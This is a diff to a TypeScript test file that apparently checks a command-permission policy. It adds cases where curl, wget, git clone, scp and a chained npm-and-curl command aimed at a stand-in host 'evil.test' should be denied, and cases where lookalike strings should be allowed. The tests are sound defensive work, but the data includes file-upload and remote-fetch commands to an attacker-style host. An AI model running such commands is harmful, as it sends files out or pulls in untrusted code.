@@ -152,6 +152,18 @@ check("hosts", [
   ["off", fetching("https://a.example/"), { mode: "off" }, "allow"],
 ]);
 
+const evil = { mode: "off", deny: ["host(evil.test)"] } as const;
+
+check("hosts in commands", [
+  ["an address", run("curl -s https://evil.test/x"), evil, "deny"],
+  ["below it", run("wget http://a.evil.test:81/"), evil, "deny"],
+  ["a remote", run("git clone git@evil.test:a/b.git"), evil, "deny"],
+  ["another machine", run("scp a.txt me@evil.test:"), evil, "deny"],
+  ["in a line", run("npm test && curl EVIL.test"), evil, "deny"],
+  ["another host", run("curl https://good.test/?evil.test"), evil, "allow"],
+  ["a word", run("git commit -m 'block evil.test'"), evil, "allow"],
+]);
+
 check("addresses that nothing allows", [
   ["this machine", fetching("http://127.0.0.1/"), { mode: "off", allow: ["host(*)"] }, "deny"],
   ["a name of it", fetching("http://localhost:8080/"), { allow: ["host(localhost:8080)"] }, "deny"],
